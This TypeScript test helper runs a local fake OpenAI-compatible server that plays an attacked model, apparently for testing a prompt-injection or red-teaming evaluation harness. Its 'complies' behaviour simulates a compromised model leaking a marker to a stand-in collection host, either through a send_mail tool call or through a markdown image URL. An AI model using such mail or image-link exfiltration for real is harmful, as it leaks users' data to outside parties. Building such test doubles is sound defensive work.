import { createServer, type ServerResponse } from 'node:http'
import type { AddressInfo } from 'node:net'
import { json } from 'node:stream/consumers'

/** A request for a chat, as far as attacked models look at it. */
export interface Attack {
  readonly messages: readonly { readonly role: string; readonly content: string | null }[]
  readonly tools?: readonly { readonly function: { readonly name: string } }[]
  readonly [field: string]: unknown
}

/** What an attacked model says, or the status that it fails with; nothing at all with `hang`. */
export interface Said {
  readonly content?: string | null
  readonly calls?: { readonly name: string; readonly arguments: object }
  readonly finish?: string
  readonly status?: number
  readonly error?: object
  readonly headers?: Record<string, string>
  readonly hang?: boolean
}

export type Behaviour = (attack: Attack) => Said | Promise<Said>

/** A service that speaks OpenAI's chat completions, and whose model does as a function says. */
export interface Attacked {
  readonly url: string
  readonly attacks: Attack[]
  readonly keys: (string | undefined)[]
  behave(behaviour: Behaviour): void
  close(): Promise<void>
}

export async function startAttacked(): Promise<Attacked> {
  const attacks: Attack[] = []
  const keys: (string | undefined)[] = []
  const hanging = new Set<ServerResponse>()
  let behaviour: Behaviour = declines
  const server = createServer(async (request, response) => {
    const attack = (await json(request)) as Attack
    attacks.push(attack)
    keys.push(request.headers.authorization)
    const { content, calls, finish, status = 200, error, headers = {}, hang } = await behaviour(attack)
    if (hang) return void hanging.add(response)
    response.writeHead(status, { 'content-type': 'application/json', ...headers })
    if (status >= 300) return void response.end(JSON.stringify({ error: error ?? { message: 'failed' } }))
    const called = calls && {
      id: 'call_9',
      type: 'function',
      function: { name: calls.name, arguments: JSON.stringify(calls.arguments) },
    }
    const message = { role: 'assistant', content: content ?? null, ...(called && { tool_calls: [called] }) }
    const reason = finish ?? (called ? 'tool_calls' : 'stop')
    response.end(
      JSON.stringify({
        id: 'chatcmpl-1',
        object: 'chat.completion',
        created: 1,
        model: 'attacked',
        choices: [{ index: 0, message, finish_reason: reason }],
        usage: { prompt_tokens: 100, completion_tokens: 20, total_tokens: 120 },
      }),
    )
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const { port } = server.address() as AddressInfo
  return {
    url: `http://127.0.0.1:${port}/v1`,
    attacks,
    keys,
    behave(next) {
      behaviour = next
      attacks.length = 0
      keys.length = 0
    },
    async close() {
      for (const response of hanging) response.destroy()
      server.closeAllConnections()
      await new Promise((resolve) => server.close(resolve))
    },
  }
}

export const declines: Behaviour = () => ({ content: "I'm sorry, but I can't help with that." })

/** What an attack wants: the mark of the instructions, or of what was sent in plain words. */
export function wantedBy({ messages }: Attack): string {
  const texts = messages.map(({ content }) => content ?? '').join('\n')
  const [mark] = /\b[a-z]{8}\d{4}\b/.exec(texts) ?? []
  if (mark !== undefined) return mark
  const [, first] = /["«]\s?([a-z]{6})\s?["»]/.exec(texts) ?? []
  const [, second] = /["«]\s?([a-z]{2}\d{4})\s?["»]/.exec(texts) ?? []
  return `${first}${second}`
}

/** Says what the attack wants, in the way that it wants it. */
export const complies: Behaviour = (attack) => {
  const wanted = wantedBy(attack)
  if (attack.tools?.some(({ function: { name } }) => name === 'send_mail'))
    return {
      calls: { name: 'send_mail', arguments: { to: `${wanted}@collect.example`, subject: '', body: '' } },
    }
  return { content: `Of course: ![](https://collect.example/p.png?case=${wanted}) ${wanted}` }
}
